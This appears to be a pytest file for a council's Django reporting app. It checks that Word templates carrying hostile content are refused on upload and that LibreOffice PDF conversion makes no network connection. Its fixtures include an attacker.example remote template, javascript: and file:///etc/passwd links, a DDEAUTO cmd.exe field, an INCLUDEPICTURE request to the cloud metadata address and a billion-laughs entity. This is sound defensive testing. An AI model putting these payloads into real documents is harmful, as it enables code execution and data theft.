"""The council's Word template carries nothing that reaches outside the file (issue 23, point 1): each
hostile template is refused at upload with its reason and nothing is saved; one saved before the
check is passed over when a document is made; and LibreOffice, making a PDF from a document that
links to an address on this machine, never reaches it (a real listener counts the connections)."""
import codecs
import io
import logging
import socket
import socketserver
import struct
import subprocess
import sys
import threading
import zipfile
import zlib

import docx
import pytest
from django.core.files.base import ContentFile
from django.urls import reverse
from docx.opc.constants import RELATIONSHIP_TYPE as RT
from docx.oxml import parse_xml
from docx.oxml.ns import nsdecls

from reporting.documents import pdf
from reporting.documents.templates import template_problems
from reporting.models import DocumentTemplate
from tests.reporting.documents.test_word import DOCUMENTS, download, header_text, letterhead_template

pytestmark = pytest.mark.django_db  # the letterhead starts from the plain default, in the council's name

ATTACHED_TEMPLATE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
VBA_PROJECT = "http://schemas.microsoft.com/office/2006/relationships/vbaProject"
LAUGHS = ('<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">'
          '<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>')


@pytest.fixture
def media(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "media"
    return settings.MEDIA_ROOT


def png():
    """A 1 × 1 picture, for a template with a picture of its own."""
    def chunk(kind, data):
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0))
            + chunk(b"IDAT", zlib.compress(b"\x00\x00\x66\xcc")) + chunk(b"IEND", b""))


def saved(document):
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def letterhead():
    return docx.Document(io.BytesIO(letterhead_template()))


def add_link(document, target):
    """A link in the letterhead's first paragraph, as Word writes one (a relationship)."""
    rel = document.part.relate_to(target, RT.HYPERLINK, is_external=True)
    document.paragraphs[0]._p.append(parse_xml(
        f'<w:hyperlink {nsdecls("w", "r")} r:id="{rel}"><w:r><w:t>Our website</w:t></w:r></w:hyperlink>'))
    return document


def add_field(document, instruction):
    """A field in the letterhead's first paragraph, its instruction split over two runs as Word does."""
    half = len(instruction) // 2
    runs = [f'<w:r {nsdecls("w")}><w:fldChar w:fldCharType="begin"/></w:r>',
            f'<w:r {nsdecls("w")}><w:instrText xml:space="preserve"> {instruction[:half]}</w:instrText></w:r>',
            f'<w:r {nsdecls("w")}><w:instrText xml:space="preserve">{instruction[half:]} </w:instrText></w:r>',
            f'<w:r {nsdecls("w")}><w:fldChar w:fldCharType="separate"/></w:r>',
            f'<w:r {nsdecls("w")}><w:t>field</w:t></w:r>',
            f'<w:r {nsdecls("w")}><w:fldChar w:fldCharType="end"/></w:r>']
    for run in runs:
        document.paragraphs[0]._p.append(parse_xml(run))
    return document


def linked_picture(url):
    """A letterhead whose logo is a picture linked, not embedded: LibreOffice and Word fetch it."""
    document = letterhead()
    rel = document.part.relate_to(url, RT.IMAGE, is_external=True)
    document.paragraphs[0]._p.append(parse_xml(
        f'<w:r {nsdecls("w", "wp", "a", "pic", "r")}><w:drawing><wp:inline><wp:extent cx="952500" cy="952500"/>'
        '<wp:docPr id="99" name="Logo"/><a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture">'
        '<pic:pic><pic:nvPicPr><pic:cNvPr id="99" name="Logo"/><pic:cNvPicPr/></pic:nvPicPr>'
        f'<pic:blipFill><a:blip r:link="{rel}"/><a:stretch><a:fillRect/></a:stretch></pic:blipFill>'
        '<pic:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="952500" cy="952500"/></a:xfrm><a:prstGeom prst="rect"/>'
        '</pic:spPr></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r>'))
    return saved(document)


def attach_template(document, url):
    """Attach a template as Word does: a relationship of the settings part, named in its settings."""
    settings = next(part for part in document.part.package.iter_parts() if part.partname == "/word/settings.xml")
    rel = settings.relate_to(url, ATTACHED_TEMPLATE, is_external=True)
    settings.element.insert(0, parse_xml(f'<w:attachedTemplate {nsdecls("w", "r")} r:id="{rel}"/>'))
    return document


def attached_template(url):
    return saved(attach_template(letterhead(), url))


def rezip(content, change=None, extra=()):
    """The .docx with parts changed ({name: bytes -> bytes}) and parts added ([(name, bytes)])."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(content)) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            data = src.read(info.filename)
            dst.writestr(info.filename, (change or {}).get(info.filename, lambda old: old)(data))
        for name, data in extra:
            dst.writestr(name, data)
    return out.getvalue()


def with_macros():
    """word/vbaProject.bin smuggled in, with the relationship and content type Word gives it."""
    return rezip(letterhead_template(), {
        "word/_rels/document.xml.rels": lambda old: old.replace(
            b"</Relationships>", f'<Relationship Id="rIdVba" Type="{VBA_PROJECT}" Target="vbaProject.bin"/>'
                                 "</Relationships>".encode()),
        "[Content_Types].xml": lambda old: old.replace(
            b"</Types>", b'<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>'),
    }, extra=[("word/vbaProject.bin", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504)])


def in_utf16(part, dtd):
    """A part re-encoded in UTF-16 with a byte order mark, declaring so, with a DTD after the declaration."""
    def change(old):
        text = old.decode("utf-8")
        body = text[text.index("?>") + 2:] if text.startswith("<?xml") else text
        return codecs.BOM_UTF16_LE + f'<?xml version="1.0" encoding="UTF-16" standalone="yes"?>{dtd}{body}'.encode(
            "utf-16-le")
    return rezip(letterhead_template(), {part: change})


def macro_enabled_renamed():
    """A .docm saved under a .docx name: its main part says macro-enabled."""
    return rezip(letterhead_template(), {"[Content_Types].xml": lambda old: old.replace(
        b"wordprocessingml.document.main+xml", b"ms-word.document.macroEnabled.main+xml")})


# (what it is, how it is made, what the refusal says)
HOSTILE = {
    "external picture at 127.0.0.1": (lambda: linked_picture("http://127.0.0.1:8999/logo.png"),
                                      "links to a picture outside it, “http://127.0.0.1:8999/logo.png”"),
    "external picture on a network share": (lambda: linked_picture("\\\\fileserver\\share\\logo.png"),
                                            "links to a picture outside it"),
    "attached remote .dotm": (lambda: attached_template("https://attacker.example/evil.dotm"),
                              "attached to another template, “https://attacker.example/evil.dotm”"),
    "javascript: link": (lambda: saved(add_link(letterhead(), "javascript:alert(document.cookie)")),
                         "has a link to “javascript:alert(document.cookie)”: only links to a web page"),
    "file:///etc/passwd link": (lambda: saved(add_link(letterhead(), "file:///etc/passwd")),
                                "has a link to “file:///etc/passwd”: only links to a web page"),
    "word/vbaProject.bin": (with_macros, "holds macros or embedded program objects"),
    "macro-enabled .docm named .docx": (macro_enabled_renamed, "holds macros or embedded program objects"),
    "UTF-16 document.xml with a DOCTYPE": (lambda: in_utf16("word/document.xml", "<!DOCTYPE d [<!ENTITY x 'y'>]>"),
                                           "Part word/document.xml of the file declares XML entities"),
    "UTF-16 billion laughs in styles.xml": (lambda: in_utf16("word/styles.xml", LAUGHS),
                                            "Part word/styles.xml of the file declares XML entities"),
    "INCLUDEPICTURE field": (lambda: saved(add_field(letterhead(), 'INCLUDEPICTURE "http://169.254.169.254/latest" \\d')),
                             "fetches a picture from outside the file"),
    "DDEAUTO field": (lambda: saved(add_field(letterhead(), 'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"')),
                      "asks another program for content"),
    "HYPERLINK field to javascript:": (lambda: saved(add_field(letterhead(), 'HYPERLINK "javascript:alert(1)" \\o "tip"')),
                                       "has a link to “javascript:alert(1)”"),
}


def upload(client, content, name="letterhead.docx"):
    return client.post(reverse("admin:reporting_documenttemplate_add"),
                       {"name": "Letterhead", "file": ContentFile(content, name=name), "in_use": "on"})


@pytest.mark.parametrize("case", HOSTILE)
def test_each_hostile_template_is_refused_with_its_reason_and_nothing_is_saved(client_for, media, case):
    make, reason = HOSTILE[case]
    response = upload(client_for("admin"), make())
    assert response.status_code == 200
    page = response.content.decode()
    assert reason.replace("“", "&ldquo;").replace("”", "&rdquo;") in page or reason in page, page[:3000]
    assert not DocumentTemplate.objects.exists()
    assert not media.exists() or not [path for path in media.rglob("*") if path.is_file()]


def test_every_reason_is_given_at_once(media):
    content = saved(add_link(add_link(letterhead(), "javascript:alert(1)"), "file:///etc/passwd"))
    problems = template_problems(content)
    assert len(problems) == 2
    assert "javascript:alert(1)" in problems[0] + problems[1] and "file:///etc/passwd" in problems[0] + problems[1]


def test_a_good_template_with_a_picture_web_and_email_links_and_page_numbers_is_accepted(client_for, media):
    document = add_link(add_link(letterhead(), "https://www.sefton.gov.uk/"), "mailto:economy@sefton.gov.uk")
    add_field(document, 'HYPERLINK "https://www.sefton.gov.uk/contact" \\o "Contact us"')
    add_field(document, "PAGE")
    document.add_picture(io.BytesIO(png()))
    response = upload(client_for("admin"), saved(document))
    assert response.status_code == 302, response.content.decode()[:3000]
    assert list(DocumentTemplate.objects.values_list("name", flat=True)) == ["Letterhead"]
    assert header_text(download(client_for("scrutiny"), "report")) == "Metropolitan Borough of Testshire – Civic Centre letterhead"


def test_a_hostile_template_saved_before_the_check_is_passed_over_with_a_warning(client_for, media, caplog):
    """A template in use from before these rules never reaches a reader's document."""
    template = DocumentTemplate(name="Old letterhead")
    template.file.save("old.docx", ContentFile(linked_picture("http://127.0.0.1:8999/logo.png")), save=False)
    template.save()
    with caplog.at_level(logging.WARNING, logger="reporting.documents.base"):
        response = client_for("scrutiny").get(DOCUMENTS["briefing"])
    assert response.status_code == 200
    with zipfile.ZipFile(io.BytesIO(response.content)) as zf:
        assert not [n for n in zf.namelist() if b"127.0.0.1" in zf.read(n) or b'TargetMode="External"' in zf.read(n)]
    assert header_text(docx.Document(io.BytesIO(response.content))).startswith("Sefton Council\t")
    assert "'Old letterhead' is not used" in caplog.text
    assert "http://127.0.0.1:8999/logo.png" in caplog.text


# -- LibreOffice never reaches the network ---------------------------------------------------------


class Listener:
    """A TCP listener on 127.0.0.1 that counts the connections made to it."""

    def __init__(self):
        self.connections = []
        listener = self

        class Handler(socketserver.BaseRequestHandler):
            def handle(self):
                self.request.settimeout(2)
                try:
                    listener.connections.append(self.request.recv(200))
                except OSError:
                    listener.connections.append(b"")

        self.server = socketserver.ThreadingTCPServer(("127.0.0.1", 0), Handler)
        self.server.daemon_threads = True
        self.port = self.server.server_address[1]
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def proven_live(self):
        """Connect once, see it counted, and start counting again from nothing."""
        socket.create_connection(("127.0.0.1", self.port), timeout=5).close()
        for _ in range(100):
            if self.connections:
                break
            threading.Event().wait(0.02)
        assert len(self.connections) == 1
        self.connections.clear()

    def close(self):
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture
def listener():
    running = Listener()
    running.proven_live()
    yield running
    running.close()


def hostile_document(port):
    """A document linking to the listener in every way LibreOffice might follow: a linked picture,
    an attached template and an INCLUDEPICTURE field (made without the upload check)."""
    content = linked_picture(f"http://127.0.0.1:{port}/logo.png")
    document = docx.Document(io.BytesIO(content))
    attach_template(document, f"http://127.0.0.1:{port}/evil.dotm")
    add_field(document, f'INCLUDEPICTURE "http://127.0.0.1:{port}/field.png" \\d')
    return saved(document)


def test_no_request_reaches_a_listener_while_a_pdf_is_made_from_a_hostile_document(listener):
    made = pdf.convert_to_pdf(hostile_document(listener.port))
    assert made.startswith(b"%PDF")
    assert listener.connections == []


def test_the_profile_alone_keeps_libreoffice_off_a_listener_where_namespaces_are_not_allowed(listener, monkeypatch):
    """As on a server where unshare is refused: LibreOffice's own settings still fetch nothing."""
    monkeypatch.setattr(pdf, "network_isolation", lambda: [])
    made = pdf.convert_to_pdf(hostile_document(listener.port))
    assert made.startswith(b"%PDF")
    assert listener.connections == []


def test_a_program_run_as_libreoffice_is_run_cannot_connect_anywhere(listener):
    """The namespace alone: the same connection that reaches the listener from the test fails inside it."""
    isolation = pdf.network_isolation()
    assert isolation, "unshare should work here (root, or user namespaces allowed)"
    connect = f"import socket; socket.create_connection(('127.0.0.1', {listener.port}), timeout=5)"
    inside = subprocess.run([*isolation, sys.executable, "-c", connect], capture_output=True, text=True, timeout=30)
    assert inside.returncode != 0 and "Network is unreachable" in inside.stderr, inside.stderr
    assert listener.connections == []
    assert subprocess.run([sys.executable, "-c", connect], timeout=30).returncode == 0
    for _ in range(100):
        if listener.connections:
            break
        threading.Event().wait(0.02)
    assert len(listener.connections) == 1



def test_the_administrator_is_told_when_the_template_in_use_is_passed_over(client_for, media):
    template = DocumentTemplate(name="Old letterhead")
    template.file.save("old.docx", ContentFile(attached_template("https://attacker.example/evil.dotm")), save=False)
    template.save()
    page = client_for("admin").get(reverse("admin:reporting_documenttemplate_changelist")).content.decode()
    assert "The template in use, “Old letterhead”, is not used: documents are built on the plain default" in page
    assert "attached to another template, “https://attacker.example/evil.dotm”" in page
